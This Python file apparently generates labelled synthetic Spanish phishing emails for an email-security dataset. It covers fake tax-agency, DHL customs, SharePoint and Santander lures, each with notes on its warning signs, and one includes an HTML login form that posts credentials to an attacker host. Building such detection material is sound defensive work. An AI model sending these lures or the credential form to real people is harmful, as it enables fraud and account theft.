"""Attack messages, Spanish (27-31)."""
from common import *

F = "attack"
NIF_EX = "B50981273"   # Example Ibérica S.L.


@message(F, "es", "verifactu-aeat-certificado-phish",
         "Regulator phishing: 'Agencia Tributaria' claims the company's invoicing software is not registered for VERI*FACTU and threatens the 50,000 EUR penalty; link to a fake Sede electrónica asking for the digital certificate / Cl@ve; via Mailgun",
         "AEAT does not send such notices from aeat-verifactu.es via Mailgun; VERI*FACTU requires no 'registration' of the SIF by the user; "
         "link to a look-alike sede host, real penalty (art. 201 bis LGT) used as pressure. Compare business/29 (the tax adviser's genuine VERI*FACTU note).")
def a27():
    r = rng("a27")
    t = timez.local("de", 2026, 11, 3, 9, 0, 11)
    rcpt = "lucia.fernandez@examplegroup.eu"
    frm_addr = "notificaciones@aeat-verifactu.es"
    s = infra.mailgun(r, t, rcpt, "mg.aeat-verifactu.es", tz="de")
    link = "https://sede-agenciatributaria.verifactu-alta.es/Sede/procedimientoini/VF01.shtml?nif=" + NIF_EX
    plain = f"""Agencia Tributaria
Sede electrónica

Asunto: Sistema informático de facturación no adaptado – VERI*FACTU
NIF: {NIF_EX} – EXAMPLE IBERICA SL

Estimado/a contribuyente:

Según la información disponible en esta Agencia, el sistema informático de facturación (SIF) utilizado por su entidad no figura como adaptado al Reglamento de requisitos de los sistemas de facturación (Real Decreto 1007/2023) ni ha remitido registros de facturación en la modalidad VERI*FACTU.

Le recordamos que el incumplimiento puede ser sancionado con multa de hasta 50.000 euros por cada ejercicio (artículo 201 bis de la Ley General Tributaria).

Para evitar el inicio de un procedimiento sancionador, debe verificar la adaptación de su SIF antes del 20 de noviembre de 2026 accediendo con certificado electrónico o Cl@ve:
{link}

Este mensaje se ha generado de forma automática. Por favor, no responda a este correo.
"""
    html = html_wrap(f"""<div style="font-family:Arial,sans-serif;max-width:640px">
<div style="border-bottom:3px solid #a8071a;padding:10px 0"><span style="color:#a8071a;font-size:20px"><b>Agencia Tributaria</b></span> <span style="color:#555">| Sede electr&oacute;nica</span></div>
<p><b>Asunto:</b> Sistema inform&aacute;tico de facturaci&oacute;n no adaptado &ndash; VERI*FACTU<br><b>NIF:</b> {NIF_EX} &ndash; EXAMPLE IBERICA SL</p>
<p>Estimado/a contribuyente:</p>
<p>Seg&uacute;n la informaci&oacute;n disponible en esta Agencia, el sistema inform&aacute;tico de facturaci&oacute;n (SIF) utilizado por su entidad no figura como adaptado al Reglamento de requisitos de los sistemas de facturaci&oacute;n (Real Decreto 1007/2023) ni ha remitido registros de facturaci&oacute;n en la modalidad VERI*FACTU.</p>
<p>Le recordamos que el incumplimiento puede ser sancionado con multa de <b>hasta 50.000 euros por cada ejercicio</b> (art&iacute;culo 201 bis de la Ley General Tributaria).</p>
<p>Para evitar el inicio de un procedimiento sancionador, debe verificar la adaptaci&oacute;n de su SIF <b>antes del 20 de noviembre de 2026</b> accediendo con certificado electr&oacute;nico o Cl@ve:</p>
<p><a href="{link}" style="background:#a8071a;color:#fff;padding:9px 18px;text-decoration:none">Acceder a la Sede electr&oacute;nica</a></p>
<p style="font-size:11px;color:#777">Este mensaje se ha generado de forma autom&aacute;tica. Por favor, no responda a este correo.</p></div>""", "es", charset="windows-1252")
    root = Multi("alternative", [Text(plain, "plain", "windows-1252", "quoted-printable"), Text(html, "html", "windows-1252", "quoted-printable")], s["bnd"]())
    hdr = [rp("bounce+5c0a.77e1-lucia.fernandez=examplegroup.eu@mg.aeat-verifactu.es")] + s["trace"] + H(
        ("Date", s["date"]),
        ("From", A("Agencia Tributaria", frm_addr)),
        ("To", rcpt),
        ("Subject", SUBJ("Aviso: sistema de facturación no adaptado a VERI*FACTU – NIF " + NIF_EX, "windows-1252", "Q")),
        ("Message-Id", s["mid"]),
    ) + s["xh"]
    return hdr, root


@message(F, "es", "dhl-aduanas-aranceles-tarjeta",
         "Customs/courier phishing + malware: 'DHL Express España – Aduanas' says an import is held until 38.47 EUR of duties are paid by card (link) and attaches an unencrypted ZIP 'DUA' holding a .pdf.vbs; from a compromised cPanel account",
         "DHL customs payments run via dhl.com/MyDHL+ and reference a real AWB; here sender is an unrelated authenticated cPanel mailbox, "
         "link to dhl-aduanas-pago.com (look-alike), small amount for card/3-D Secure harvesting, and a ZIP with a VBScript file disguised as the customs document.")
def a28():
    r = rng("a28")
    t = timez.local("de", 2026, 12, 14, 11, 20, 40)
    rcpt = "javier.martinez@example.com"
    frm_addr = "reservas@hostalelmirador-teruel.es"
    s = infra.cpanel_exim(r, t, rcpt, "cp203.webempresa.eu", "185.47.129.203", frm_addr, "102.129.143.77", tz="de")
    link = "https://dhl-aduanas-pago.com/es/pago?awb=4792013385"
    plain = f"""DHL Express España – Aduanas

Estimado cliente:

Su envío con número de guía 4792013385 procedente de Shenzhen (CN) se encuentra retenido en la aduana de Madrid-Barajas pendiente del pago de los derechos de importación y el IVA.

Importe pendiente: 38,47 €

Si el pago no se realiza en un plazo de 3 días hábiles, el envío será devuelto al remitente. Adjuntamos el aviso de aduana (DUA) con el desglose de los importes.

Pagar ahora: {link}

Atentamente,
DHL Express España
Departamento de Aduanas
"""
    html = html_wrap(f"""<div style="font-family:Arial,sans-serif;max-width:580px;border:1px solid #ddd">
<div style="background:#ffcc00;padding:12px 16px"><span style="color:#d40511;font-size:22px;font-style:italic"><b>DHL</b></span> <span style="font-size:13px">EXPRESS</span></div>
<div style="padding:16px">
<p>Estimado cliente:</p>
<p>Su env&iacute;o con n&uacute;mero de gu&iacute;a <b>4792013385</b> procedente de Shenzhen (CN) se encuentra retenido en la aduana de Madrid-Barajas pendiente del pago de los derechos de importaci&oacute;n y el IVA.</p>
<p>Importe pendiente: <b>38,47 &euro;</b></p>
<p>Si el pago no se realiza en un plazo de 3 d&iacute;as h&aacute;biles, el env&iacute;o ser&aacute; devuelto al remitente. Adjuntamos el aviso de aduana (DUA) con el desglose de los importes.</p>
<p><a href="{link}" style="background:#d40511;color:#fff;padding:9px 18px;text-decoration:none">Pagar ahora</a></p>
<p>Atentamente,<br>DHL Express Espa&ntilde;a<br>Departamento de Aduanas</p></div></div>""", "es", charset="iso-8859-15")
    alt = Multi("alternative", [Text(plain.replace("España – Aduanas", "España - Aduanas"), "plain", "iso-8859-15", "quoted-printable"),
                                Text(html, "html", "iso-8859-15", "quoted-printable")], phpmailer_boundary(r))
    z = zip_att([("DUA_Aviso_aduana_4792013385.pdf.vbs", PLACEHOLDER, (2026, 12, 14, 11, 2, 40))],
                "DUA_Aviso_aduana_4792013385.zip", password=None, seed="a28")
    root = Multi("mixed", [alt, z], phpmailer_boundary(r))
    hdr = [rp(frm_addr)] + s["trace"] + H(
        ("Date", s["date"]),
        ("To", rcpt),
        ("From", A("DHL Express España", frm_addr, "iso-8859-15", "Q")),
        ("Subject", SUBJ("Envío 4792013385 retenido en aduana: pago pendiente", "iso-8859-15", "Q")),
        ("Message-ID", phpmailer_mid(r, "hostalelmirador-teruel.es")),
        ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
    ) + s["xh"]
    return hdr, root


@message(F, "es", "cliente-comprometido-sharepoint-falso",
         "Compromised customer mailbox: Carmen López (Construcciones Aragón Sur, real Microsoft 365 tenant) sends a hand-made 'SharePoint sharing' message whose button leads to a workers.dev credential page",
         "Headers genuine (compromised account), but the 'SharePoint notification' is an ordinary mail from the user (real ones come from "
         "no-reply@sharepointonline.com), the link goes to *.workers.dev rather than construccionesaragonsur.sharepoint.com, and the file is "
         "'PDF' that needs a Microsoft login. Compare business/28, the genuine SharePoint share.")
def a29():
    r = rng("a29")
    t = timez.local("de", 2026, 11, 25, 12, 37, 15)
    rcpt = "javier.martinez@example.com"
    frm_addr = "clopez@construccionesaragonsur.es"
    s = infra.m365(r, t, rcpt, prd="eurprd08", tenant_domain="construccionesaragonsur.es")
    link = "https://sharepoint-docs-aragonsur.carmen-lopez.workers.dev/?file=Pedido_ventanas_Obra_Parque_Delicias.pdf&id=ja.martinez"
    plain = f"""Carmen López ha compartido un archivo con usted

Pedido ventanas – Obra Parque Delicias.pdf

Hola Javier, te paso el pedido definitivo de ventanas y vidrios para la fase 2, con las medidas revisadas por la dirección facultativa. Confírmame plazos cuando puedas.

Abrir: {link}

Este vínculo solo funciona para los destinatarios directos de este mensaje.
"""
    html = html_wrap(f"""<table width="520" style="font-family:Segoe UI,Arial,sans-serif;border:1px solid #e1e1e1"><tr><td style="padding:24px">
<p style="font-size:20px;color:#201f1e">Carmen L&oacute;pez ha compartido un archivo con usted</p>
<p style="color:#323130">Hola Javier, te paso el pedido definitivo de ventanas y vidrios para la fase 2, con las medidas revisadas por la direcci&oacute;n facultativa. Conf&iacute;rmame plazos cuando puedas.</p>
<table style="border:1px solid #edebe9;width:100%"><tr><td style="padding:10px"><b>Pedido ventanas &ndash; Obra Parque Delicias.pdf</b></td></tr></table>
<p><a href="{link}" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Abrir</a></p>
<p style="font-size:11px;color:#605e5c">Este v&iacute;nculo solo funciona para los destinatarios directos de este mensaje.</p>
<p style="font-size:11px;color:#605e5c">Microsoft respeta su privacidad. Para obtener m&aacute;s informaci&oacute;n, lea nuestra Declaraci&oacute;n de privacidad.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</td></tr></table>""", "es", charset="utf-8")
    root = Multi("alternative", [Text(plain, "plain", "utf-8", "quoted-printable"), Text(html, "html", "utf-8", "quoted-printable")], exch_bnd(s, 0))
    subj = "Carmen López ha compartido «Pedido ventanas – Obra Parque Delicias.pdf» con usted"
    hdr = [rp(frm_addr)] + s["trace"] + exch_headers(
        s, A("Carmen López", frm_addr, "utf-8", "Q"), A("Javier Martínez", rcpt, "utf-8", "Q"),
        SUBJ(subj, "utf-8", "B"), lang="es-ES")
    return hdr, root


@message(F, "es", "factura-html-adjunto-excel-login",
         "HTML-attachment phishing: 'Transportes Hermanos Lázaro – Facturación' (real carrier's name) from an unrelated compromised cPanel mailbox sends 'Factura_F-2026-1033.xlsx.html', a fake Microsoft/Excel login pre-filled with the victim's address",
         "Display name of a real carrier on a foreign domain (talleresruiz-calatayud.es), double extension .xlsx.html, the file is a credential "
         "form posting to an attacker host; the carrier's real invoices come as PDF from transporteslazaro.es (business/27).")
def a30():
    r = rng("a30")
    t = timez.local("de", 2026, 10, 15, 10, 2, 47)
    rcpt = "lucia.fernandez@examplegroup.eu"
    frm_addr = "administracion@talleresruiz-calatayud.es"
    s = infra.cpanel_exim(r, t, rcpt, "es31.siteground.eu", "35.214.159.61", frm_addr, "196.251.84.30", tz="de")
    form = f"""<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>Excel Online - Factura_F-2026-1033.xlsx</title>
<style>body{{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#e9efe9}}.top{{background:#107c41;color:#fff;padding:10px 16px}}
.box{{width:380px;margin:60px auto;background:#fff;padding:30px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
input{{width:100%;padding:8px;margin:8px 0 14px;border:0;border-bottom:1px solid #666}}button{{background:#0067b8;color:#fff;border:0;padding:9px 28px}}</style></head>
<body><div class="top">Excel &middot; Factura_F-2026-1033.xlsx</div>
<div class="box"><b>Microsoft</b><h3>Verifique su identidad para ver el documento</h3>
<form method="post" action="https://fra1.xlsx-viewer-secure.com/owa/auth.php">
<input name="login" value="{rcpt}"><input name="passwd" type="password" placeholder="Contraseña">
<button type="submit">Iniciar sesión</button></form>
<p style="font-size:12px;color:#666">El remitente ha protegido este archivo. Solo los destinatarios verificados pueden abrirlo.</p></div></body></html>
"""
    body = """Buenos días,

adjuntamos factura correspondiente a los portes realizados durante el mes de septiembre (Zaragoza – Valencia / Zaragoza – Bilbao).

Rogamos confirmen recepción.

Un saludo,
Departamento de Facturación
Transportes Hermanos Lázaro S.L.
"""
    root = Multi("mixed", [Text(body.replace("–", "-"), "plain", "iso-8859-15", "base64"),
                           Attach(form.encode("utf-8"), 'text/html; charset="utf-8"', "Factura_F-2026-1033.xlsx.html")], phpmailer_boundary(r))
    hdr = [rp(frm_addr)] + s["trace"] + H(
        ("Date", s["date"]),
        ("To", rcpt),
        ("From", A("Transportes Hermanos Lázaro - Facturación", frm_addr, "iso-8859-15", "Q")),
        ("Subject", "Factura F-2026-1033 portes septiembre"),
        ("Message-ID", phpmailer_mid(r, "talleresruiz-calatayud.es")),
        ("X-Mailer", "PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)"),
    ) + s["xh"]
    return hdr, root


@message(F, "es", "santander-empresas-toad-llamada",
         "Callback phishing (bank): 'Santander Empresas' alerts about a pending 18,450 EUR SEPA transfer to an unknown beneficiary and asks to call a 'security service' number; no link; via an abused Brevo account",
         "Look-alike domain santander-empresas-avisos.com sent through Brevo, no link by design (TOAD) - the phone number leads to fake "
         "bank staff who harvest OTPs or 'reverse' the transfer; alarm about an unknown payment on a Saturday evening.")
def a31():
    r = rng("a31")
    t = timez.local("de", 2026, 11, 28, 20, 14, 6)
    rcpt = "lucia.fernandez@examplegroup.eu"
    frm_addr = "avisos@santander-empresas-avisos.com"
    s = infra.brevo(r, t, rcpt)
    plain = """Santander Empresas
Aviso de seguridad

Estimado cliente:

Se ha registrado en su Banca Online Empresas una orden de transferencia SEPA pendiente de autorización:

Importe: 18.450,00 €
Beneficiario: GLOBAL TRADE SERVICES LDA
Cuenta destino: PT50 **** **** **** **** 7712 3
Fecha de ejecución prevista: 30/11/2026

Si usted NO ha ordenado esta operación, llame de inmediato a nuestro Servicio de Seguridad 24 horas en el 910 47 38 26 para bloquearla. Por su seguridad, no responda a este correo ni facilite sus claves a terceros.

Atentamente,
Banco Santander, S.A.
"""
    html = html_wrap(f"""<div style="font-family:Arial,sans-serif;max-width:600px;border:1px solid #ddd">
<div style="background:#ec0000;color:#fff;padding:14px 18px;font-size:19px"><b>Santander</b> Empresas</div>
<div style="padding:18px">{p_html(plain.split(chr(10)+chr(10), 1)[1])}</div></div>""", "es", charset="utf-8")
    root = Multi("alternative", [Text(plain, "plain", "utf-8", "quoted-printable"), Text(html, "html", "utf-8", "quoted-printable")], s["bnd"]())
    hdr = [rp(f"{rstr(r, ALNUM, 20)}@sender-sib.com")] + s["trace"] + H(
        ("Date", s["date"]),
        ("From", A("Santander Empresas", frm_addr)),
        ("Reply-To", A("Santander Empresas", "no-reply@santander-empresas-avisos.com")),
        ("To", rcpt),
        ("Subject", SUBJ("Aviso de seguridad: transferencia de 18.450,00 € pendiente de autorización", "utf-8", "B")),
        ("Message-Id", s["mid"]),
    ) + s["xh"]
    return hdr, root
